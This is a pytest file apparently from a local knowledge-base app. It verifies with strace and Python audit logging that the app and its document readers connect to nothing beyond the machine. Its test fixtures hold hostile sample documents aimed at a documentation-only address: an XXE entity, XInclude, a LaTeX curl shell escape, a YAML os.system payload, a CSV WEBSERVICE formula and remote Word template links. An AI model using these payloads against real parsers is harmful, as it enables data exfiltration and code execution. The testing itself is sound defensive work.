"""Nothing leaves the machine: what the app and the command line connect to."""

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.error import URLError
from urllib.request import urlopen

import docx
import pytest
from docx.oxml import parse_xml

from tests.adapters.pdf_maker import PdfPage, make_pdf, paragraph
from tests.connections.watch import is_here

ROOT = Path(__file__).parents[2]
STRACE = ("strace", "-f", "-qq", "--seccomp-bpf", "-e", "trace=connect")
SLOW_STRACE = ("strace", "-f", "-qq", "-e", "trace=connect,socket")
"""Sees also what the reading process tries and is refused."""

SLOWEST_START_SECONDS = 90
ADDRESS = re.compile(r"(?:inet_addr\(|inet_pton\(AF_INET6, )\"([^\"]+)\"")
FAMILY = re.compile(r"sa_family=(AF_\w+)")
# 192.0.2.0/24 is set aside for documentation: nobody is there.
THERE = "http://192.0.2.1"
WORD_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
)
TEMPLATE = f'<w:attachedTemplate {WORD_NAMES} r:id="{{id}}"/>'
PICTURE = f'<w:drawing {WORD_NAMES}><a:blip r:link="{{id}}"/></w:drawing>'
OFFICE_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'office:mimetype="application/vnd.oasis.opendocument.text"'
)
HTML = f"""<html><head><base href="{THERE}/"><link rel="stylesheet" href="a.css">
<meta http-equiv="refresh" content="0; url={THERE}/a"><script src="a.js"></script></head>
<body><p>The page is on the table.</p><img src="a.png"><iframe src="{THERE}/a"></iframe>
<object data="a.svg"></object></body></html>"""
CALLING = {
    "page.html": HTML,
    "mail.eml": f"Subject: Mail\nContent-Type: text/html\n\n{HTML}",
    "entity.xml": f'<!DOCTYPE a [<!ENTITY e SYSTEM "{THERE}/a">]><a>The note is here. &e;</a>',
    "outside.xml": f'<!DOCTYPE a SYSTEM "{THERE}/a.dtd"><a>The note is here, too.</a>',
    "include.xml": '<a xmlns:i="http://www.w3.org/2001/XInclude">The note is there.'
    f'<i:include href="{THERE}/a"/></a>',
    "section.fodt": f"<office:document {OFFICE_NAMES}><office:body><office:text>"
    '<text:p>The text is here.</text:p><text:section text:name="a">'
    f'<text:section-source xlink:href="{THERE}/a.odt"/></text:section>'
    "</office:text></office:body></office:document>",
    "letter.rtf": rf"{{\rtf1{{\*\template {THERE}/a.dot}}"
    rf'{{\field{{\*\fldinst INCLUDEPICTURE "{THERE}/a.png"}}}}The rich letter is here.\par}}',
    "notes.rst": f".. raw:: html\n   :url: {THERE}/a\n\n.. csv-table::\n   :url: {THERE}/b\n\n"
    f".. image:: {THERE}/a.png\n\nThe notes are on the table.\n",
    "notes.md": f"The notes are here. ![a]({THERE}/a.png) <img src='{THERE}/b.png'>\n",
    "notes.org": f"#+SETUPFILE: {THERE}/a\n#+INCLUDE: {THERE}/b\nThe notes are there.\n",
    "paper.tex": rf"\documentclass{{article}}\input{{|curl {THERE}}}\include{{{THERE}/a}}"
    r"\begin{document}The paper is here.\end{document}",
    "rows.csv": f'place,pump\nharbour,"=WEBSERVICE(""{THERE}/a"")"\n',
    "rows.yaml": f"place: harbour\npump: !!python/object/apply:os.system [curl {THERE}]\n",
    "list.json": json.dumps({"$ref": f"{THERE}/a.json", "note": "The list is here."}),
}
"""What they call lies elsewhere; all have text of their own."""

LOOKS_FOR_IPV6 = "socket(AF_INET6, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = -1 EPERM"
"""What urllib3, imported with trafilatura, does once: it would bind it to this machine."""

CHILDREN = ("kb.adapters.readers.child", "kb.adapters.embedding_child")


@dataclass(frozen=True)
class Watched:
    """A place where every process is watched; both logs lie in its folder."""

    folder: Path
    strace: Sequence[str] = STRACE

    @property
    def environment(self) -> dict[str, str]:
        """Ours, with the watching of Python's events."""
        return {
            **os.environ,
            "KB_HOME": str(self.folder / "home"),
            "OLLAMA_HOST": "http://127.0.0.1:9",
            "TMPDIR": str(self.folder),
            "PYTHONPATH": os.pathsep.join([str(ROOT / "tests" / "connections"), str(ROOT)]),
        }

    def command(self, *words: str) -> list[str]:
        """The command line that runs a Python module, under strace where that is possible."""
        run = [sys.executable, "-m", *words]
        return (
            [*self.strace, "-o", str(self.folder / f"strace-{words[1]}"), *run] if traced() else run
        )

    def run(self, *words: str) -> str:
        """What a command prints; it must end well."""
        done = subprocess.run(
            self.command(*words),
            cwd=ROOT,
            env=self.environment,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    def told(self) -> list[dict[str, str]]:
        """The events of all processes so far."""
        lines = (self.folder / "connections.jsonl").read_text(encoding="utf-8").splitlines()
        return [json.loads(line) for line in lines]

    def gone_to(self) -> set[str]:
        """The hosts beyond this machine that Python was asked to reach."""
        return {one["host"] for one in self.told() if not is_here(one["host"])}

    def traced_connections(self) -> list[str]:
        """The lines of strace about connections, and about those that were refused."""
        logs = self.folder.glob("strace-*")
        lines = [line for log in logs for line in log.read_text().splitlines()]
        return [line for line in lines if "connect(" in line or "EPERM" in line]


def traced() -> bool:
    """Whether strace is here and may look."""
    if not shutil.which("strace"):
        return False
    return subprocess.run([*STRACE, "true"], capture_output=True, check=False).returncode == 0


def leaves(line: str) -> bool:
    """Whether a line of strace is a connection beyond this machine, or a try that was refused."""
    if "EPERM" in line:
        return True
    family = FAMILY.search(line)
    if family is None or family.group(1) not in ("AF_INET", "AF_INET6"):
        return False
    address = ADDRESS.search(line)
    return address is None or not is_here(address.group(1))


@pytest.fixture(scope="module")
def commands(tmp_path_factory: pytest.TempPathFactory) -> Watched:
    """Documents of each kind taken in, and a question asked, from the command line."""
    watched = Watched(tmp_path_factory.mktemp("watched"))
    papers = watched.folder / "papers"
    papers.mkdir()
    (papers / "pump.md").write_text("# Pumps\n\nThe P-40 pump weighs 84 kg when it is dry.\n")
    lines = paragraph("The larch shed was painted green.", top=72.0)
    (papers / "shed.pdf").write_bytes(make_pdf(PdfPage(lines=lines)))
    word = docx.Document()
    word.add_paragraph("Lunch is served in the canteen at noon.")
    word.save(str(papers / "lunch.docx"))
    added = watched.run("kb", "add", str(papers), "--json")
    assert [json.loads(line)["status"] for line in added.splitlines()] == ["ready"] * 3
    asked = watched.run("kb", "ask", "How heavy is the P-40 pump?", "--model", "quotes")
    assert "84 kg" in asked
    return watched


@pytest.fixture(scope="module")
def calling(tmp_path_factory: pytest.TempPathFactory) -> Watched:
    """Documents that ask whoever reads them to fetch something, taken in."""
    watched = Watched(tmp_path_factory.mktemp("calling"), strace=SLOW_STRACE)
    papers = watched.folder / "papers"
    papers.mkdir()
    for name, text in CALLING.items():
        (papers / name).write_text(text, encoding="utf-8")
    _word_with_remote_parts(papers / "letter.docx")
    told = [
        json.loads(line) for line in watched.run("kb", "add", str(papers), "--json").splitlines()
    ]
    assert {one["document"]: one["error"] for one in told if one["status"] != "ready"} == {}
    assert {one["document"] for one in told} == {*CALLING, "letter.docx"}
    return watched


def _word_with_remote_parts(path: Path) -> None:
    """A Word file whose template, and a picture in it, lie elsewhere."""
    word = docx.Document()
    paragraph = word.add_paragraph("The letter is on the table. ")
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    picture = word.part.relate_to(f"{THERE}/a.png", f"{kind}/image", is_external=True)
    run = paragraph.add_run()
    run._r.append(parse_xml(PICTURE.format(id=picture)))
    settings = word.part._settings_part
    template = settings.relate_to(f"{THERE}/a.dotm", f"{kind}/attachedTemplate", is_external=True)
    settings.element.insert(0, parse_xml(TEMPLATE.format(id=template)))
    word.save(str(path))


@pytest.fixture(scope="module", params=["kb run", "streamlit run app.py"])
def serving(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Watched]:
    """The app, serving, as `make run` and as a host starts it."""
    watched = Watched(tmp_path_factory.mktemp("serving"))
    port = free_port()
    words = str(request.param).split()
    if words[0] == "streamlit":
        words += ["--server.port", str(port)]
    environment = {**watched.environment, "KB_PORT": str(port)}
    with (watched.folder / "log").open("wb") as log:
        app = subprocess.Popen(
            watched.command(*words),
            cwd=ROOT,
            env=environment,
            stdout=log,
            stderr=log,
            start_new_session=True,
        )
        try:
            await_health(f"http://127.0.0.1:{port}/_stcore/health", app, watched.folder / "log")
            yield watched
        finally:
            # strace itself does not heed the signal; it ends with the app.
            os.killpg(app.pid, signal.SIGTERM)
            app.wait(30)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def await_health(address: str, app: subprocess.Popen[bytes], log: Path) -> None:
    end = time.monotonic() + SLOWEST_START_SECONDS
    while time.monotonic() < end:
        assert app.poll() is None, log.read_text()
        try:
            with urlopen(address, timeout=5) as answer:
                assert answer.read() == b"ok"
                return
        except (URLError, ConnectionError):
            time.sleep(0.2)
    pytest.fail(f"The app did not start: {log.read_text()}")


def test_commands_connect_to_nothing_beyond_this_machine(commands: Watched) -> None:
    assert not commands.gone_to()


def test_the_children_of_commands_are_watched_as_well(commands: Watched) -> None:
    started = [" ".join(one["process"]) for one in commands.told() if one["event"] == "started"]
    assert all(any(child in line for line in started) for child in CHILDREN)


def test_native_code_of_commands_connects_to_nothing_either(commands: Watched) -> None:
    if not traced():
        pytest.skip("strace is not here, or may not look; only Python's own connections are seen.")
    assert not [line for line in commands.traced_connections() if leaves(line)]


def test_nothing_is_tried_for_documents_that_call_elsewhere(calling: Watched) -> None:
    assert not calling.gone_to()
    readers = [one for one in calling.told() if CHILDREN[0] in " ".join(one["process"])]
    tried = [line for line in calling.traced_connections() if leaves(line)]
    assert [line for line in tried if LOOKS_FOR_IPV6 not in line] == []
    assert len(tried) <= len(readers) > 0


def test_the_app_connects_to_nothing_beyond_this_machine(serving: Watched) -> None:
    assert not serving.gone_to()
    assert not [line for line in serving.traced_connections() if leaves(line)]
    assert any(one["event"] == "started" for one in serving.told())


def test_the_watch_sees_what_would_leave(tmp_path: Path) -> None:
    watched = Watched(tmp_path)
    code = (
        "import socket; s = socket.socket(); s.setblocking(False); s.connect_ex(('192.0.2.1', 9))"
    )
    command = [sys.executable, "-c", code]
    subprocess.run(command, env=watched.environment, cwd=ROOT, check=True)
    assert watched.gone_to() == {"192.0.2.1"}


def test_the_watch_sees_what_the_reading_process_would_try(tmp_path: Path) -> None:
    watched = Watched(tmp_path)
    held_to = [tmp_path / "files", tmp_path / "spool"]
    for folder in held_to:
        folder.mkdir()
    code = (
        "import socket, sys; from pathlib import Path; "
        "from kb.adapters.readers.confinement import confine; "
        "confine(*map(Path, sys.argv[1:])); socket.getaddrinfo('192.0.2.1', 9)"
    )
    command = [sys.executable, "-c", code, *map(str, held_to)]
    subprocess.run(command, env=watched.environment, cwd=ROOT, check=True)
    assert watched.gone_to() == {"192.0.2.1"}


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('connect(3, {sa_family=AF_UNIX, sun_path="/run/x"}, 110) = 0', False),
        (
            'connect(3, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("127.0.0.1")}',
            False,
        ),
        (
            'connect(3, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("192.0.2.1")}',
            True,
        ),
        ('connect(3, {sa_family=AF_INET6, inet_pton(AF_INET6, "::1", &sin6_addr)}', False),
        ('connect(3, {sa_family=AF_INET6, inet_pton(AF_INET6, "2001:db8::1", &sin6_addr)}', True),
        ("connect(3, {sa_family=AF_UNSPEC, sa_data=...}, 16) = 0", False),
        ("socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = -1 EPERM (Operation not permitted)", True),
    ],
)
def test_a_line_of_strace_is_read(line: str, expected: bool) -> None:
    assert leaves(line) is expected
